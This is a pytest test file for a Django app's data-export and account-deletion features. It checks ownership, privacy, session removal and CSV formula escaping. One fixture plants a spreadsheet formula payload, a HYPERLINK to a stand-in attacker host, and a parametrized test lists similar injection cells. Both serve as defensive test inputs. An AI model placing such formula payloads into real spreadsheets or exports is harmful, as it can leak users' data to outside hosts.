"""Your data: download everything you own, or delete your account and all of
it, leaving no row of yours behind."""

import csv
import io
import json
from datetime import date, timedelta

import pytest
from django.apps import apps
from django.contrib.admin.models import ADDITION, LogEntry
from django.contrib.auth.models import Group, Permission
from django.contrib.contenttypes.models import ContentType
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from helpapp.accounts.export import owned_models, safe_cell
from helpapp.accounts.models import User
from helpapp.accounts.models import UserSession as Session
from helpapp.asks.models import Ask, SavedTemplate
from helpapp.people.models import HelpGiven, Person
from helpapp.vocabulary import Outcome, Status
from tests.conftest import PASSWORD, make_ask, make_person, make_user

pytestmark = pytest.mark.django_db

URLS = ["export", "export_json", "export_csv", "delete_account"]
HEADER = [
    "Created",
    "Status",
    "Category",
    "Size",
    "Need",
    "Why",
    "Due date",
    "Person name",
    "Channel",
    "Subject",
    "Message",
    "Sent at",
    "Outcome",
    "Outcome date",
    "Outcome notes",
    "Guess",
]


def fill_account(user: User) -> dict:
    """A row in every model the user can own, and a few the user is named in."""
    name = user.username.title()
    sam = make_person(
        user, f"{name}'s Sam", phone="+442079460000", email="sam@example.com"
    )
    gone = make_person(user, f"{name}'s Old friend")
    gone.soft_delete()
    gone.save()
    HelpGiven.objects.create(owner=user, person=sam, note="moved a sofa")
    big = make_ask(user, f"{name} needs help moving house", size="big")
    make_ask(
        user,
        f"{name} needs a lift, to the station",
        person=sam,
        parent=big,
        status=Status.SENT,
        sent_at=timezone.now(),
        message="Hi Sam,\nCould you drive me? Thank you!",
        outcome=Outcome.YES,
        outcome_on=timezone.localdate(),
        guess=40,
    )
    make_ask(user, f'=HYPERLINK("http://evil.example/{name}")', person=gone)
    SavedTemplate.objects.create(
        owner=user,
        title=f"{name}'s lift",
        category="practical",
        size="small",
        need="a lift",
        body="Hi {person}, could you give me {need}?",
    )
    LogEntry.objects.create(
        user=user,
        content_type=ContentType.objects.get_for_model(Person),
        object_id=str(sam.pk),
        object_repr=str(sam),
        action_flag=ADDITION,
    )
    user.groups.add(Group.objects.get_or_create(name="testers")[0])
    user.user_permissions.add(Permission.objects.get(codename="view_person"))
    return {"sam": sam, "gone": gone, "big": big}


def references_to_user() -> list:
    """(model, field) for every column anywhere that points at a user."""
    return [
        (model, field)
        for model in apps.get_models(include_auto_created=True)
        for field in model._meta.concrete_fields
        if field.is_relation and field.related_model is User
    ]


def rows_of(user_id: int) -> dict[str, int]:
    return {
        f"{model._meta.label}.{field.name}": model._base_manager.filter(
            **{field.attname: user_id}
        ).count()
        for model, field in references_to_user()
    }


def sessions_of(user_id: int) -> list[Session]:
    return [
        s
        for s in Session.objects.all()
        if s.get_decoded().get("_auth_user_id") == str(user_id)
    ]


@pytest.fixture
def alice_data(alice) -> dict:
    return fill_account(alice)


@pytest.fixture
def bob_data(bob) -> dict:
    return fill_account(bob)


# What counts as "theirs"


def test_every_model_that_points_at_a_user_is_exported_or_known_not_to_be():
    exported = {model for _key, model in owned_models()}
    # Admin history, group and permission links and signed-in sessions: not
    # the user's writing, but deleted with them all the same (see the
    # deletion test below).
    not_exported = {
        "admin.LogEntry",
        "accounts.UserSession",
        "accounts.User_groups",
        "accounts.User_user_permissions",
    }
    for model, field in references_to_user():
        if model in exported:
            assert field.name == "owner", model
        else:
            assert model._meta.label in not_exported, (
                f"{model._meta.label}.{field.name} points at a user: export it "
                "(name the field 'owner') or add it to this list."
            )


def test_everything_a_user_owns_goes_when_the_user_goes():
    for _key, model in owned_models():
        on_delete = model._meta.get_field("owner").remote_field.on_delete
        assert on_delete.__name__ == "CASCADE", model


def test_the_export_keys_are_stable():
    assert [key for key, _model in owned_models()] == [
        "people",
        "help_given",
        "asks",
        "saved_templates",
    ]


# The pages


def test_anonymous_users_are_sent_to_log_in(client):
    for name in URLS:
        url = reverse(name)
        response = client.get(url)
        assert response.status_code == 302, name
        assert response["Location"] == f"{reverse('login')}?next={url}"


def test_the_account_page_links_to_both(alice_client):
    response = alice_client.get(reverse("account"))
    assert f'href="{reverse("export")}"' in response.text
    assert f'href="{reverse("delete_account")}"' in response.text
    assert "Download your data" in response.text
    assert "Delete your account" in response.text


def test_the_profile_form_still_saves(alice, alice_client):
    response = alice_client.post(
        reverse("account"), {"first_name": "Ally", "country": "GB"}, follow=True
    )
    assert "Saved." in response.text
    alice.refresh_from_db()
    assert (alice.first_name, alice.country.code) == ("Ally", "GB")


def test_the_export_page_explains_and_links_to_both_files(alice_client):
    response = alice_client.get(reverse("export"))
    assert "<h1>Download your data</h1>" in response.text
    assert f'href="{reverse("export_json")}"' in response.text
    assert f'href="{reverse("export_csv")}"' in response.text


def test_downloads_are_get_only(alice_client):
    for name in ["export", "export_json", "export_csv"]:
        assert alice_client.post(reverse(name)).status_code == 405, name


# The JSON file


def walk_keys(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from walk_keys(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from walk_keys(inner)


def test_the_json_file_is_an_attachment_named_for_the_user_and_day(alice, alice_client):
    response = alice_client.get(reverse("export_json"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    day = timezone.localdate().isoformat()
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="leanon-alice-{day}.json"'
    )
    assert "no-store" in response["Cache-Control"]


def test_the_json_file_holds_everything_of_theirs_and_nothing_of_anyone_else(
    alice, alice_client, alice_data, bob_data
):
    response = alice_client.get(reverse("export_json"))
    data = json.loads(response.content)

    assert list(data) == [
        "exported_at",
        "user",
        "people",
        "help_given",
        "asks",
        "saved_templates",
    ]
    assert data["user"] == {
        "username": "alice",
        "email": "alice@example.com",
        "first_name": "Alice",
        "country": "",
        "date_joined": alice.date_joined.isoformat(),
    }
    names = {person["name"] for person in data["people"]}
    assert names == {"Alice's Sam", "Alice's Old friend"}  # deleted ones too
    assert len(data["asks"]) == 3
    assert len(data["help_given"]) == 1
    assert [t["title"] for t in data["saved_templates"]] == ["Alice's lift"]
    assert "Bob" not in response.text


def test_the_json_file_uses_plain_json_types(alice_client, alice_data):
    data = json.loads(alice_client.get(reverse("export_json")).content)
    sam = next(p for p in data["people"] if p["name"] == "Alice's Sam")
    assert sam["phone"] == "+442079460000"
    assert sam["deleted_at"] is None
    gone = next(p for p in data["people"] if p["name"] == "Alice's Old friend")
    assert gone["deleted_at"].endswith("+00:00")
    sent = next(a for a in data["asks"] if a["status"] == "sent")
    assert sent["person_id"] == alice_data["sam"].pk
    assert sent["person_name"] == "Alice's Sam"
    assert sent["parent_id"] == alice_data["big"].pk
    assert sent["parent_name"] == "Alice needs help moving house"
    assert sent["outcome"] == "yes"
    assert sent["guess"] == 40
    assert date.fromisoformat(sent["due_date"]) > timezone.localdate()
    assert date.fromisoformat(sent["outcome_on"]) == timezone.localdate()
    assert sent["message"] == "Hi Sam,\nCould you drive me? Thank you!"
    assert data["help_given"][0]["person_name"] == "Alice's Sam"
    assert "owner_id" not in sent


def test_the_json_file_never_holds_a_password(alice, alice_client, alice_data):
    response = alice_client.get(reverse("export_json"))
    keys = set(walk_keys(json.loads(response.content)))
    assert not any("password" in key for key in keys)
    assert alice.password not in response.text
    assert "is_superuser" not in keys


def test_a_row_pointing_at_someone_elses_never_shows_their_words(
    alice, alice_client, bob
):
    make_ask(alice, "a lift", person=make_person(bob, "Bob's secret friend"))
    response = alice_client.get(reverse("export_json"))
    assert json.loads(response.content)["asks"][0]["person_name"] is None
    assert "secret" not in response.text
    assert "secret" not in alice_client.get(reverse("export_csv")).text


def test_the_users_country_is_its_code(alice, alice_client):
    alice.country = "NZ"
    alice.save()
    data = json.loads(alice_client.get(reverse("export_json")).content)
    assert data["user"]["country"] == "NZ"
    assert data["people"] == data["asks"] == []


# The CSV file


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_csv_file_is_an_attachment_named_for_the_user_and_day(alice_client):
    response = alice_client.get(reverse("export_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    day = timezone.localdate().isoformat()
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="leanon-alice-{day}.csv"'
    )
    assert read_csv(response) == [HEADER]


def test_the_csv_file_has_a_row_for_each_request(alice_client, alice_data, bob_data):
    rows = read_csv(alice_client.get(reverse("export_csv")))
    assert rows[0] == HEADER
    assert len(rows) == 1 + 3
    by_need = {row[4]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    sent = by_need["Alice needs a lift, to the station"]
    assert sent["Status"] == "Sent"
    assert sent["Category"] == "Practical"
    assert sent["Person name"] == "Alice's Sam"
    assert sent["Message"] == "Hi Sam,\nCould you drive me? Thank you!"
    assert sent["Outcome"] == "Yes"
    assert sent["Outcome date"] == timezone.localdate().isoformat()
    assert sent["Guess"] == "40"
    assert sent["Sent at"]
    assert by_need["Alice needs help moving house"]["Size"] == "Big"
    assert not any("Bob" in cell for row in rows for cell in row)


def test_a_cell_a_spreadsheet_would_run_is_made_plain_text(alice_client, alice_data):
    rows = read_csv(alice_client.get(reverse("export_csv")))
    needs = [row[4] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example/Alice")' in needs
    assert not any(cell.startswith("=") for row in rows for cell in row)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20", "'+44 20"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("a lift = kind", "a lift = kind"),
        ("", ""),
        (None, ""),
        (40, "40"),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


# Deleting the account


def test_the_delete_page_says_what_will_go_and_deletes_nothing(
    alice, alice_client, alice_data
):
    before = rows_of(alice.pk)
    response = alice_client.get(reverse("delete_account"))
    assert response.status_code == 200
    assert "<title>Delete your account – LeanOn</title>" in response.text
    assert '<dt class="col-8">Trusted people</dt><dd class="col-4">2</dd>' in (
        response.text
    )
    assert '<dt class="col-8">Requests</dt><dd class="col-4">3</dd>' in (response.text)
    assert '<dt class="col-8">Saved templates</dt><dd class="col-4">1</dd>' in (
        response.text
    )
    assert 'for="id_password"' in response.text
    assert "Your password" in response.text
    assert rows_of(alice.pk) == before
    assert User.objects.filter(pk=alice.pk).exists()


def test_a_wrong_password_deletes_nothing_and_says_so(alice, alice_client, alice_data):
    before = rows_of(alice.pk)
    response = alice_client.post(reverse("delete_account"), {"password": "wrong"})
    assert response.status_code == 200
    assert "<title>Error: Delete your account – LeanOn</title>" in response.text
    assert 'href="#id_password"' in response.text  # the summary links to it
    assert response.text.count("That is not your password.") == 2
    assert 'aria-describedby="id_password_error"' in response.text
    assert rows_of(alice.pk) == before
    assert alice_client.get(reverse("account")).status_code == 200  # still in


def test_an_empty_password_deletes_nothing(alice, alice_client, alice_data):
    before = rows_of(alice.pk)
    response = alice_client.post(reverse("delete_account"), {"password": ""})
    assert "Enter your password to delete your account." in response.text
    assert rows_of(alice.pk) == before


def test_deleting_leaves_no_row_of_theirs_in_any_table(
    alice, alice_client, alice_data, bob, bob_data
):
    alice_id = alice.pk
    assert all(rows_of(alice_id).values())  # a row in every table to begin with
    assert sessions_of(alice_id)
    bobs = rows_of(bob.pk)
    owned_before = {
        model: model._base_manager.count() for _key, model in owned_models()
    }
    alices = {
        model: model._base_manager.filter(owner_id=alice_id).count()
        for _key, model in owned_models()
    }

    response = alice_client.post(
        reverse("delete_account"), {"password": PASSWORD}, follow=True
    )

    assert response.redirect_chain == [(reverse("home"), 302)]
    assert "Your account and everything in it has been deleted." in response.text
    assert not response.context["user"].is_authenticated
    assert not User.objects.filter(pk=alice_id).exists()
    assert rows_of(alice_id) == dict.fromkeys(rows_of(alice_id), 0)
    assert sessions_of(alice_id) == []
    # Nothing left behind with its owner merely emptied, either.
    for model, before in owned_before.items():
        assert model._base_manager.count() == before - alices[model], model
    # Everyone else's data is all still there.
    assert rows_of(bob.pk) == bobs
    assert Person.objects.filter(owner=bob).count() == 2
    assert Ask.objects.filter(owner=bob, parent__isnull=False).count() == 1


def test_deleting_the_account_ends_its_sessions_everywhere(alice, bob):
    """Signed in on a phone and a laptop: deleting the account from one
    ends the other too (its row is gone), and bob stays signed in."""
    phone, laptop, bobs = Client(), Client(), Client()
    phone.force_login(alice)
    laptop.force_login(alice)
    bobs.force_login(bob)
    assert Session.objects.filter(user=alice).count() == 2
    phone.post(reverse("delete_account"), {"password": PASSWORD})
    assert Session.objects.filter(user_id=alice.pk).count() == 0
    assert sessions_of(alice.pk) == []
    assert laptop.get(reverse("account")).status_code == 302  # to log in
    assert Session.objects.filter(user=bob).count() == 1
    assert bobs.get(reverse("account")).status_code == 200


def test_after_deleting_the_old_password_logs_no_one_in(alice, client, alice_data):
    client.force_login(alice)
    client.post(reverse("delete_account"), {"password": PASSWORD})
    response = client.post(
        reverse("login"), {"username": "alice", "password": PASSWORD}
    )
    assert "Please enter a correct username and password." in response.text


def test_delete_only_answers_get_and_post(alice_client):
    assert alice_client.put(reverse("delete_account")).status_code == 405


def test_a_new_account_with_the_same_name_starts_empty(alice, alice_client, alice_data):
    alice_client.post(reverse("delete_account"), {"password": PASSWORD})
    again = make_user("alice")
    assert not Person.objects.filter(owner=again).exists()
    assert not Ask.objects.filter(owner=again).exists()
    assert again.date_joined > timezone.now() - timedelta(minutes=1)


def test_no_one_browses_a_users_words_in_the_admin():
    """ "Private to you" is true: no model holding what a user wrote (their
    requests, people, help given, templates) is in the admin; accounts are."""
    from django.contrib import admin

    registered = set(admin.site._registry)
    owned = {model for _key, model in owned_models()}
    assert owned
    assert not owned & registered, sorted(m._meta.label for m in owned & registered)
    assert User in registered
